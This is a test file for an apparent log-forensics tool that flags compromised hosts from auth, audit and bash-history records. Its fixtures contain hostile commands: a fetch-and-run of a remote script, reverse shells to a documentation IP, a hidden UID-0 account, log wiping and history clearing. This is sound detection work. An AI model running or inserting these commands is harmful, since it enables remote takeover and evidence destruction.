import { describe, expect, test } from 'vitest';
import { investigateFiles, LogWriter } from '../../test/scenario.ts';

const log = () => new LogWriter('web1', '2026-05-10T08:00:00Z').life(60);
const auth = async (writer: LogWriter) => await investigateFiles({ 'web1/var/log/auth.log': writer.text() });

describe('su by an account of a service', () => {
  test.each([
    ['by its name', 'pam_unix(su:session): session opened for user anna(uid=1000) by www-data(uid=33)'],
    ['by the id that systems fix', 'pam_unix(su-l:session): session opened for user root(uid=0) by (uid=48)'],
  ])('%s: breached, and the host is to be kept', async (_, message) => {
    const story = await auth(log().say('su[700]', message));
    expect(story.verdict).toBe('breached');
    expect(story.findings.map(({ title }) => title)).toEqual(['A service account became another by su']);
    expect(story.actions).toMatchObject([{ kind: 'preserve', host: 'web1' }]);
  });

  test.each([
    'pam_unix(su:session): session opened for user www-data(uid=33) by (uid=0)',
    'pam_unix(su:session): session opened for user nobody(uid=65534) by root(uid=0)',
    'pam_unix(su-l:session): session opened for user postgres(uid=113) by anna(uid=0)',
  ])('not: %s', async (message) => expect((await auth(log().say('su[700]', message))).findings).toEqual([]));
});

describe('accounts of the system, by what the kernel says', () => {
  let serial = 100;
  const hex = (word: string) => Buffer.from(word).toString('hex').toUpperCase();
  const ran = (user: string, uid: number, command: string, auid = 4294967295) => {
    serial += 1;
    const head = `msg=audit(1778400000.${String(serial).padStart(3, '0')}:${serial}):`;
    const ids = `auid=${auid} uid=${uid} gid=${uid} euid=${uid} suid=${uid} fsuid=${uid} egid=${uid} sgid=${uid} fsgid=${uid}`;
    const names = `\x1dARCH=x86_64 SYSCALL=execve AUID="${auid === 4294967295 ? 'unset' : user}" UID="${user}" EUID="${user}"`;
    return [
      `type=SYSCALL ${head} arch=c000003e syscall=59 success=yes exit=0 ppid=9 pid=${serial} ${ids} tty=(none) ses=${auid === 4294967295 ? auid : 4} comm="sh" exe="/usr/bin/dash" key=(null)${names}`,
      `type=EXECVE ${head} argc=3 a0="sh" a1="-c" a2=${hex(command)}`,
      '',
    ].join('\n');
  };
  const story = async (...lines: string[]) =>
    await investigateFiles({ 'web1/var/log/audit/audit.log': lines.join('') });
  const FETCHED = '(curl -s 203.0.113.9/a.sh || wget -qO- 203.0.113.9/a.sh) | bash';

  test('a service that is in no list was made to fetch and run a program', async () => {
    const { verdict, findings } = await story(ran('solr', 998, FETCHED));
    expect(verdict).toBe('breached');
    expect(findings[0]).toMatchObject({ title: 'Program fetched and run', level: 'high' });
  });

  test('a shell that calls out, under an account like a person’s into which nobody logged in', async () => {
    const shell = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1';
    expect((await story(ran('shop7', 1007, shell))).verdict).toBe('breached');
    expect((await story(ran('shop7', 1007, shell, 1007))).findings.map(({ title }) => title)).toEqual([
      'Reverse shell',
    ]);
  });

  test('lines that a web server’s account takes out of the web server’s log', async () => {
    const { verdict, findings } = await story(ran('www-data', 33, "sed -i '/203.0.113.9/d' /var/log/nginx/access.log"));
    expect([verdict, ...findings.map(({ title }) => title)]).toEqual(['breached', 'Logs wiped']);
    expect((await story(ran('www-data', 33, 'truncate -s 0 /var/log/nginx/access.log'))).verdict).not.toBe('breached');
  });

  test.each<[string, string[]]>([
    ['a builder', [ran('gitlab-runner', 998, FETCHED)]],
    ['a person who logged in', [ran('old', 501, FETCHED, 501)]],
    ['a person', [ran('anna', 1000, FETCHED)]],
    [
      'a monitor that looks around',
      ['who', 'lscpu', 'netstat -ant', 'cat /etc/passwd'].map((one) => ran('zabbix', 111, one)),
    ],
    ['a database that is saved', [ran('postgres', 26, 'pg_dump shop | gzip > /tmp/shop.sql.gz')]],
  ])('%s: no breach', async (_, lines) => expect((await story(...lines)).verdict).not.toBe('breached'));

  const off = (old: number, by: string) =>
    `type=CONFIG_CHANGE msg=audit(1778400000.900:99): op=set audit_enabled=0 old=${old} auid=4294967295 ses=4294967295 res=1\n` +
    `type=SYSCALL msg=audit(1778400000.900:99): arch=c000003e syscall=44 success=yes exit=60 ppid=1 pid=3 auid=4294967295 uid=0 gid=0 euid=0 ses=4294967295 comm="${by}" exe="/usr/sbin/x" key=(null)\n`;

  test('auditing that was on and is switched off is told, unless the journal does so as it is set up', async () => {
    const titles = async (text: string) =>
      (await story(ran('anna', 1000, 'ls'), text)).findings.map(({ title }) => title);
    expect(await titles(off(1, 'auditctl'))).toEqual(['Audit rules removed or auditing switched off']);
    expect(await titles(off(0, 'auditctl'))).toEqual([]);
    expect(await titles(off(1, 'systemd-journal'))).toEqual([]);
  });
});

describe('what stands in a history without times', () => {
  const SHELL = 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1';
  const story = async (...lines: string[]) =>
    await investigateFiles({
      'web1/var/log/auth.log': log().text(),
      'web1/root/.bash_history': `${lines.join('\n')}\n`,
    });

  test('two things that only intruders do: breached, with the host to keep', async () => {
    const { verdict, confidence, actions } = await story('ls', SHELL, 'useradd -o -u 0 -g 0 sysup');
    expect({ verdict, confidence }).toEqual({ verdict: 'breached', confidence: 'low' });
    expect(actions).toMatchObject([{ kind: 'preserve', host: 'web1' }]);
  });

  test('one of them, and tracks swept away', async () => {
    const { verdict, confidence } = await story('useradd -o -u 0 -g 0 sysup', 'rm -rf /var/log/*', 'history -c');
    expect({ verdict, confidence }).toEqual({ verdict: 'breached', confidence: 'low' });
  });

  test('one of them is told as a reason', async () => {
    const { verdict, confidence, reasons } = await story('ls', SHELL);
    expect({ verdict, confidence }).toEqual({ verdict: 'attacked', confidence: 'low' });
    expect(reasons.join()).toContain('Reverse shell');
  });

  test('what administrators do over the years is no breach', async () => {
    const { verdict } = await story(
      'systemctl stop rsyslog',
      'rm -f /var/log/messages-20200101',
      'gpg -c a.txt && shred -u a.txt',
    );
    expect(verdict).not.toBe('breached');
  });
});
